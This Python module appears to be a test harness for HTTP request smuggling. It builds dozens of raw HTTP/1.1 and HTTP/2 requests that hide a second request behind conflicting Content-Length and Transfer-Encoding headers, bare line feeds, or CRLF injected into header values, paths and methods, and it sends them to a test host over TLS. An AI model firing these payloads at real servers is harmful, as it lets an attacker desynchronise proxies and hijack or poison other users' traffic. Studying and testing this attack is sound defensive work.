"""Requests that two programs in a row could read differently. Most hide a second one, which nobody asked for.

The kinds are those of the research on request smuggling (RFC 9112, sections 6.3 and 11.2, forbids each).
"""

import socket
import ssl
from collections.abc import Mapping

HOST = "shop.test"
ANSWER_SECONDS = 3.0
TOO_LONG, DATA, HEADERS, SETTINGS = 65536, 0x0, 0x1, 0x4
END_STREAM, END_HEADERS = 0x1, 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def hidden(name: str) -> str:
    return f"GET /smuggled-{name} HTTP/1.1\r\nHost: {HOST}\r\n\r\n"


def posted(name: str, *headers: str, body: str) -> bytes:
    lines = (f"POST /entries?{name} HTTP/1.1", f"Host: {HOST}", *headers)
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode("latin-1")


def after_the_end(name: str, *headers: str) -> bytes:
    """By its chunks the body ends at once, by its length the hidden request is a part of it."""
    body = "0\r\n\r\n" + hidden(name)
    return posted(name, f"Content-Length: {len(body)}", *headers, body=body)


def in_a_chunk(name: str, *headers: str, end: str = "\r\n") -> bytes:
    """By its chunks the hidden request is a part of the body, by its length it follows it."""
    body = f"{len(hidden(name)):x}{end}{hidden(name)}\r\n0\r\n\r\n"
    return posted(name, *headers, body=body)


CHUNKED = "Transfer-Encoding: chunked"
BY_HTTP_1: Mapping[str, bytes] = {
    "cl-te": after_the_end("cl-te", CHUNKED),
    "te-cl": in_a_chunk("te-cl", CHUNKED, "Content-Length: 4"),
    "te-te": after_the_end("te-te", CHUNKED, "Transfer-Encoding: x"),
    "te-te-other": after_the_end("te-te-other", "Transfer-Encoding: x", CHUNKED),
    "te-space": after_the_end("te-space", "Transfer-Encoding : chunked"),
    "te-tab": after_the_end("te-tab", "Transfer-Encoding:\x0bchunked"),
    "te-unknown": after_the_end("te-unknown", "Transfer-Encoding: xchunked"),
    "te-list": after_the_end("te-list", "Transfer-Encoding: identity, chunked"),
    "te-folded": after_the_end("te-folded", "Transfer-Encoding:\r\n chunked"),
    "cl-cl": posted("cl-cl", "Content-Length: 0", f"Content-Length: {len(hidden('cl-cl'))}", body=hidden("cl-cl")),
    "cl-list": posted("cl-list", f"Content-Length: 0, {len(hidden('cl-list'))}", body=hidden("cl-list")),
    "cl-plus": posted("cl-plus", f"Content-Length: +{len(hidden('cl-plus'))}", body=hidden("cl-plus")),
    "cl-hex": posted("cl-hex", f"Content-Length: 0x{len(hidden('cl-hex')):x}", body=hidden("cl-hex")),
    "cl-negative": posted("cl-negative", "Content-Length: -1", body=hidden("cl-negative")),
    "name-empty": posted("name-empty", ": chunked", "Content-Length: 0", body=hidden("name-empty")),
    "name-underscore": after_the_end("name-underscore", "Transfer_Encoding: chunked"),
    "lf-alone": f"GET /entries?lf-alone HTTP/1.1\nHost: {HOST}\n\n{hidden('lf-alone')}".encode(),
    "lf-in-chunk": in_a_chunk("lf-in-chunk", CHUNKED, end="\n"),
    "chunk-extension": in_a_chunk("chunk-extension", CHUNKED, end=";\nx\r\n"),
    "get-with-body": f"GET /entries?get HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 9\r\n\r\nGET /smug".encode(),
    "version-0.9": b"GET /smuggled-version\r\n",
    "version-1.0-te": after_the_end("version", CHUNKED).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
    "host-twice": f"GET /entries HTTP/1.1\r\nHost: {HOST}\r\nHost: other.test\r\n\r\n".encode(),
}
"""By name: all that is sent on one connection."""


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def _literal(name: str, value: str) -> bytes:
    """A header as it is, in no table and not compressed (RFC 7541, section 6.2.2)."""
    return b"\x00" + b"".join(bytes((len(text),)) + text.encode("latin-1") for text in (name, value))


def _by_http_2(name: str, headers: Mapping[str, str], body: str) -> bytes:
    asked = {":method": "POST", ":scheme": "https", ":path": f"/entries?{name}", ":authority": HOST, **headers}
    block = b"".join(_literal(*header) for header in asked.items())
    return (
        PREFACE
        + _frame(SETTINGS, 0, 0, b"")
        + _frame(HEADERS, END_HEADERS, 1, block)
        + _frame(DATA, END_STREAM, 1, body.encode())
    )


BY_HTTP_2: Mapping[str, bytes] = {
    "h2-cl": _by_http_2("h2-cl", {"content-length": "0"}, hidden("h2-cl")),
    "h2-cl-short": _by_http_2("h2-cl-short", {"content-length": "5"}, "12345" + hidden("h2-cl-short")),
    "h2-te": _by_http_2("h2-te", {"transfer-encoding": "chunked"}, "0\r\n\r\n" + hidden("h2-te")),
    "h2-line": _by_http_2("h2-line", {"x": "y\r\ntransfer-encoding: chunked"}, "0\r\n\r\n" + hidden("h2-line")),
    "h2-line-in-name": _by_http_2("h2-name", {"x: y\r\nz": "1"}, hidden("h2-name")),
    "h2-path": _by_http_2("h2-path", {":path": "/entries HTTP/1.1\r\nHost: shop.test\r\n\r\nGET /smuggled"}, ""),
    "h2-method": _by_http_2("h2-method", {":method": "GET /smuggled-method HTTP/1.1\r\nX: "}, ""),
}


def answered(address: tuple[str, int], trusting: ssl.SSLContext, sent: bytes) -> bytes:
    """What came back on a connection of its own, until it was closed or nothing more came."""
    with (
        socket.create_connection(address, timeout=ANSWER_SECONDS) as plain,
        trusting.wrap_socket(plain, server_hostname=HOST) as line,
    ):
        line.sendall(sent)
        told = b""
        try:
            while more := line.recv(TOO_LONG):
                told += more
        except (TimeoutError, ConnectionError, ssl.SSLError):
            return told
        return told
